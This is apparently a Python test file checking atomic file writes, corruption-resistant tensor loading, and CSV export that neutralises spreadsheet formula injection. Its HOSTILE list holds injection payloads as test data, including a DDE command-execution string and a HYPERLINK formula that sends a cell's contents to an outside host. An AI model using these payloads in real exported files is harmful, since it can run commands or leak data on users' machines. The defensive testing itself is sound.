"""Files are whole or as before; no text becomes a formula; tensors are read as written."""

from __future__ import annotations

import csv
import errno
import io
import random
import re
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
import torch

from pgt import files
from pgt.checkpoint import read_tensors, write_tensors
from pgt.errors import DataError
from pgt.files import whole, write_text

SAYS = r"b\.txt could not be written \((Not a directory|File exists)\); .* as it was"


def test_what_fails_leaves_the_old_file_and_nothing_else(tmp_path: Path) -> None:
    path = write_text(tmp_path / "deep" / "a.json", "old")

    def fails() -> None:
        with whole(path) as half:
            half.write_text("new")
            raise RuntimeError("no power")

    with pytest.raises(RuntimeError, match="power"):
        fails()
    assert path.read_text() == "old"
    assert list(path.parent.iterdir()) == [path]


def test_two_writers_at_once_do_not_mix(tmp_path: Path) -> None:
    path = tmp_path / "a.json"
    with whole(path) as one, whole(path) as other:
        assert one != other
        one.write_text("first")
        other.write_text("second")
    assert path.read_text() == "first"  # it came last to its end
    assert list(tmp_path.iterdir()) == [path]


def test_where_nothing_can_be_written_one_sentence_says_so(tmp_path: Path) -> None:
    blocked = write_text(tmp_path / "a.txt", "a") / "b.txt"
    with pytest.raises(OSError, match=SAYS) as refused, whole(blocked):
        pass
    assert refused.value.errno in (errno.ENOTDIR, errno.EEXIST)


# What some spreadsheet would run as a formula, wherever it cuts the text into cells.
HOSTILE = (
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://example.org?x="&A1,"click")', "+1+1", "-1+1",
    "@SUM(1,1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "home;=1+1", "home\t=1+1", "home\r\n=1+1",
    "a,-2|@b", "'=1+1", "''=1+1", "'\t'=1", "-3.2", "=",
)  # fmt: skip
FORMULA = re.compile(r"(?:^|[,;|\t\r\n])[\t\r\n]*[=+@＝-]")


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("kind", ["str", "category", object])
def test_a_formula_is_not_run_and_comes_back(text: str, kind: Any) -> None:
    table = pd.DataFrame({"id": pd.Series([text, "ann", "home"], dtype=kind), text: [1, -2, -3]})
    names, *rows = csv.reader(io.StringIO(files.write_csv(table), newline=""))
    assert not any(map(FORMULA.search, [*names, *(row[0] for row in rows)]))
    assert [row[1] for row in rows] == ["1", "-2", "-3"]
    found = files.without_marks(pd.DataFrame(rows, columns=names))
    assert [*found.columns] == ["id", text] and found.id.tolist() == [text, "ann", "home"]


def test_no_damage_to_a_file_of_tensors_changes_what_is_read(tmp_path: Path) -> None:
    path = tmp_path / "model.safetensors"
    tensors, info = {"x": torch.arange(50.0), "n": torch.tensor([3])}, {"notes": {"n": 1}}
    write_tensors(path, tensors, info)
    content = path.read_bytes()
    for n in (0, 4, 8, 20, len(content) // 2, len(content) - 1):
        path.write_bytes(content[:n])
        with pytest.raises(DataError, match=r"model\.safetensors is cut short or damaged"):
            read_tensors(path)
    rng, refused = random.Random(1), 0
    for _ in range(200):
        flipped = bytearray(content)
        flipped[rng.randrange(len(content))] ^= 1 << rng.randrange(8)
        path.write_bytes(flipped)
        try:
            found, about = read_tensors(path)
        except DataError:
            refused += 1
            continue
        assert about == info and found.keys() == tensors.keys()
        assert all(torch.equal(found[name], tensors[name]) for name in tensors)
    assert refused > 150
